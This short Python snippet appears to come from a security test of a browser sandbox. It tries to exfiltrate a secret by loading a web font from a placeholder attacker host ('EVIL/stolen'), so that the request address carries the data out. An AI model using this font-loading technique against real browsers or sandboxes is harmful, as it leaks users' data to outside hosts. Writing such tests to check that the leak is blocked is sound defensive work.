# Tries to load a font, whose address carries the secret.
scope = await find_global()
await attempt("font", lambda: scope.FontFace.new("F", f"url({EVIL}/stolen)").load())
await asyncio.sleep(0.3)
print("tried")
